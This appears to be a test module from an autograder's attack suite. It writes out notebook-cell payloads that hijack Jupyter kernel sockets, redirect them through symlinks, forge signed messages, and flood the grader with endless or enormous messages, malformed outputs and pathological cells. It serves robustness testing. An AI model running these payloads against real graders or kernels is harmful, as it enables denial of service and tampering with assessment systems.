"""Attacks on the grading process itself: what it reads, keeps, waits for and writes down."""

from __future__ import annotations

from functools import partial

import nbformat

from tests.attacks.attack import LAST, Attack, cell_of, doing, insert, wrong_answers
from tests.attacks.corpus.forge import patched_answer
from tests.attacks.corpus.harm import no_contact, small_notebook
from tests.sample import ESSAY

harm = partial(Attack, kind="harm")
BEFORE_LAST = "averaged-momentum-step"

# The kernel's sockets, taken over: the connections to the grader are cut, and who connects anew speaks to this code.
TAKE_OVER = r"""
import hashlib, hmac, json, os, socket, struct, time
from ipykernel.kernelapp import IPKernelApp
app = IPKernelApp.instance()
ADDRESS = {name: f"{app.ip}-{getattr(app, name + '_port')}" for name in ("shell", "iopub", "stdin", "control", "hb")}
def take(channel):
    path = ADDRESS[channel]
    os.unlink(path)
    server = socket.socket(socket.AF_UNIX)
    server.bind(path); server.listen(); server.settimeout(3)
    cut(path)
    return server
def cut(path):
    for name in os.listdir("/proc/self/fd"):
        try: number = os.dup(int(name))
        except OSError: continue
        try: s = socket.socket(fileno=number)
        except OSError: os.close(number); continue
        try:
            if s.family == socket.AF_UNIX and s.getsockname() == path:
                s.getpeername()  # not the listening one: libzmq would abort
                s.shutdown(socket.SHUT_RDWR)
        except OSError: pass
        s.close()
def greet(server, kind):
    peer, _ = server.accept()
    peer.settimeout(3)
    peer.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32))
    peer.recv(64, socket.MSG_WAITALL)
    ready = b"\x05READY\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind
    peer.sendall(b"\x04" + bytes([len(ready)]) + ready)
    return peer
"""
# A message whose last part never comes: it is no message yet, so no limit on messages counts it.
ENDLESS_MESSAGE = (
    TAKE_OVER
    + r"""
server = take("stdin")
if os.fork() == 0:
    try:
        peer = greet(server, b"ROUTER")
        peer.settimeout(None)
        part = bytes(2**24)
        for _ in range(200):
            peer.sendall(b"\x03" + struct.pack(">Q", len(part)) + part)
    finally:
        os._exit(0)
"""
)
WAIT = "import time\ntime.sleep(4)"
# Whole messages on a channel that nobody reads.
UNREAD_MESSAGES = """
import time
kernel = get_ipython().kernel
from ipykernel.kernelapp import IPKernelApp
socket = IPKernelApp.instance().stdin_socket
parent = kernel.get_parent()
part = bytes(48 * 2**20)
for _ in range(60):
    socket.send_multipart([parent["header"]["session"].encode(), part], copy=False)
    time.sleep(0.04)
time.sleep(1)
"""
# Replies to requests that were never made, faster than they can be thrown away, and never the one that is waited for.
ENDLESS_REPLIES = r"""
import hmac, json
from hashlib import sha256
from ipykernel.kernelapp import IPKernelApp
kernel = get_ipython().kernel
router, key = IPKernelApp.instance().shell_socket, kernel.session.key
to = kernel.get_parent()["header"]["session"].encode()
head = b'{"msg_id": "%d", "msg_type": "execute_reply", "session": "s", "username": "u", "version": "5.3"}'
number = 0
while True:
    try:
        number += 1
        frames = [head % number, b'{"msg_id": "none"}', b"{}", b'{"status": "ok"}']
        sign = hmac.digest(key, b"".join(frames), sha256().name).hex().encode()
        router.send_multipart([to, b"<IDS|MSG>", sign, *frames])
    except BaseException:
        pass
"""
# The grader connects again by path, and the path has become a link to a socket outside.
REDIRECT = (
    TAKE_OVER
    + r"""
for channel in ("stdin", "hb", "control", "iopub", "shell"):
    os.unlink(ADDRESS[channel])
    os.symlink("@SOCKET@", ADDRESS[channel])
    cut(ADDRESS[channel])
time.sleep(2)
"""
)


def message(kind: str, content: str, parent: str = 'parent["header"]', channel: str = "iopub") -> str:
    """Code of a cell that sends one signed message of any content."""
    return f"""
import json
from ipykernel.kernelapp import IPKernelApp
kernel = get_ipython().kernel
parent = kernel.get_parent()
session = kernel.session
frames = [json.dumps(part, default=str).encode() for part in (session.msg_header({kind!r}), {parent}, {{}}, {content})]
to = b"stream" if {channel!r} == "iopub" else parent["header"]["session"].encode()
socket = kernel.iopub_socket if {channel!r} == "iopub" else IPKernelApp.instance().shell_socket
socket.send_multipart([to, b"<IDS|MSG>", session.sign(frames), *frames])
import time; time.sleep(0.5)
"""


# Everything that the kernel sends from here on is JSON in ASCII, so that it may hold what is no text: lone surrogates.
ASCII_PACKER = """
import json
get_ipython().kernel.session.pack = lambda value: json.dumps(value, default=str).encode()
"""
NO_TEXT = """
class Odd(BaseException):
    def __str__(self): return "\\ud800 \\x1b[31m \\n=cmd \\u202e"
raise Odd()
"""
ODD_STREAM = 'import sys\nprint("\\ud800\\udcff\\x00\\x1b]0;x\\x07")\nraise ValueError("\\ud800")'

ATTACKS = [
    harm(
        entry=14,
        slug="message-without-end",
        aim="a Jupyter message whose last part never comes fills the grader's memory",
        cells={"sgd-step": ENDLESS_MESSAGE, "linear-decay": WAIT, "exponential-decay": WAIT, "momentum-step": WAIT},
    ),
    harm(
        entry=14,
        slug="messages-unread",
        aim="whole messages of 48 MB on a channel that nobody reads",
        cells=dict.fromkeys(("linear-decay", "exponential-decay", "momentum-step", BEFORE_LAST), UNREAD_MESSAGES),
    ),
    harm(
        entry=16,
        slug="replies-without-end",
        aim="replies to requests never made, without end, while the cell never ends",
        cells={BEFORE_LAST: ENDLESS_REPLIES},
    ),
    harm(
        entry=15,
        slug="socket-redirected",
        aim="the kernel's sockets become links to a socket outside; the grader connects again",
        cells={BEFORE_LAST: REDIRECT},
        probe=no_contact,
    ),
    *(
        harm(entry=16, slug=f"message-{slug}", aim=aim, cells={BEFORE_LAST: code})
        for slug, aim, code in (
            ("content-is-list", "a signed message whose content is a list", message("stream", "[1, 2]")),
            ("header-is-list", "a signed message whose parent header is a list", message("stream", "{}", "[1]")),
            ("traceback-is-number", "an error whose traceback is a number", message("error", '{"traceback": 5}')),
            ("text-is-object", "a stream whose text is an object", message("stream", '{"text": {"a": 1}, "name": []}')),
            (
                "output-type",
                "a display that names its own type",
                message("display_data", '{"output_type": "error", "data": 1}'),
            ),
            ("deep", "content nested 900 deep", message("stream", '{"text": json.loads("[" * 900 + "]" * 900)}')),
            ("reply-is-list", "a reply whose content is a list", message("execute_reply", "[]", channel="shell")),
            (
                "reply-status",
                "a reply whose status is an object",
                message("execute_reply", '{"status": {}}', channel="shell"),
            ),
            ("date", "a header with an impossible date", message("stream", "{}", '{"date": "9999-99-99T99:99:99Z"}')),
        )
    ),
    harm(
        entry=19,
        slug="no-text-in-exception",
        aim="an exception whose text is a lone surrogate, an escape code and a newline",
        answers={LAST: doing(LAST, NO_TEXT)},
        cells={BEFORE_LAST: ASCII_PACKER},
        loses=(LAST,),
    ),
    harm(
        entry=19,
        slug="no-text-in-type",
        aim="an answer of a type whose name is a lone surrogate",
        answers=wrong_answers(LAST),
        cells={
            BEFORE_LAST: patched_answer(
                '{"values": [{"opaque": "\\ud800\\n=cmd\\u001b[31m"}], "mutated": ["\\udfff"], "failure": null}'
            )
        },
        loses=(LAST,),
    ),
    harm(
        entry=19,
        slug="no-text-in-output",
        aim="lone surrogates, NUL and escape codes printed and raised",
        cells={"sgd-step": ASCII_PACKER + ODD_STREAM},
    ),
    *(
        harm(
            entry=17,
            slug=f"answer-{slug}",
            aim=f"an answer of {aim}",
            answers=wrong_answers(LAST),
            cells={BEFORE_LAST: code},
            loses=(LAST,),
        )
        for slug, aim, code in (
            (
                "of-60-MB",
                "60 MB of empty lists",
                "import utils.check.call\n_big = utils.check.call._Shown('{\"values\": [' + '[],' * 20_000_000 + '[]], "
                '"mutated": [], "failure": null}\')\nutils.check.call.answer = lambda f, case: _big',
            ),
            (
                "of-many-numbers",
                "three million numbers",
                "import utils.check.call\n_big = utils.check.call._Shown('{\"values\": [[' + '0,' * 3_000_000 + '0]], "
                '"mutated": [], "failure": null}\')\nutils.check.call.answer = lambda f, case: _big',
            ),
            ("deep", "lists nested 100,000 deep", patched_answer("[" * 100_000)),
            ("huge-number", "a number of 100,000 digits", patched_answer('{"values": [' + "9" * 100_000 + "]}")),
            (
                "huge-shape",
                "an array of shape (0, 10^18)",
                patched_answer(
                    '{"values": [{"tuple": [{"dtype": "float64", "shape": [0, 1000000000000000000], "data": []}, 1]}], '
                    '"mutated": [], "failure": null}'
                ),
            ),
        )
    ),
]


def _many_outputs(notebook: dict) -> dict:
    for _ in range(200):
        insert(notebook, "sgd-step", "print('x' * 1_000_000)")
    return notebook


def _many_small_outputs(notebook: dict) -> dict:
    for _ in range(3):
        insert(notebook, "sgd-step", "for _ in range(20_000): display(0)")
    return notebook


def reflection(text: str):
    """Edit: the hand-graded answer is a text."""

    def edit(notebook: dict) -> dict:
        cell_of(notebook, ESSAY)["source"] = text
        return notebook

    return edit


def extra_cell(text: str):
    """Edit: a cell of the student's own holds a text."""

    def edit(notebook: dict) -> dict:
        notebook["cells"].append(dict(nbformat.v4.new_code_cell(text)))
        return notebook

    return edit


ATTACKS += [
    harm(
        entry=17,
        slug="outputs-of-many-cells",
        aim="200 cells that print 1 MB each",
        edit=_many_outputs,
        probe=small_notebook,
    ),
    harm(
        entry=17,
        slug="many-small-outputs",
        aim="60,000 displays in three cells",
        edit=_many_small_outputs,
        probe=small_notebook,
    ),
    *(
        harm(
            entry=17,
            slug=f"markdown-{slug}",
            aim=f"a reflection of 200,000 characters: {text[:12]!r}…",
            edit=reflection(text),
        )
        for slug, text in {
            "backticks": "`" * 60_000,
            "spaces": "a" + " " * 199_000 + "b",
            "formulas": r"\begin{a}" * 22_000,
            "brackets": "[" * 200_000,
            "quotes": "> " * 100_000,
            "emphasis": "*a **a " * 28_000,
            "lists": "".join(" " * depth + "- a\n" for depth in range(600)),
        }.items()
    ),
    *(
        harm(entry=17, slug=f"code-{slug}", aim=f"a cell of 200,000 characters: {text[:12]!r}…", edit=extra_cell(text))
        for slug, text in {
            "parentheses": "(" * 200_000,
            "sums": "1" + "+1" * 99_000,
            "attributes": "x" + ".a" * 99_000,
            "minus": "-" * 199_000 + "1",
            "conditions": "if 0: pass\n" + "elif 0: pass\n" * 15_000,
            "lambdas": "lambda:" * 28_000 + "0",
            "quotes": "'" * 199_999,
            "backslashes": "'" + "\\" * 199_000,
            "braces": "f'" + "{" * 199_000,
            "spaces": "class" + " " * 199_000,
            "number": "x = " + "9" * 199_000,
        }.items()
    ),
]
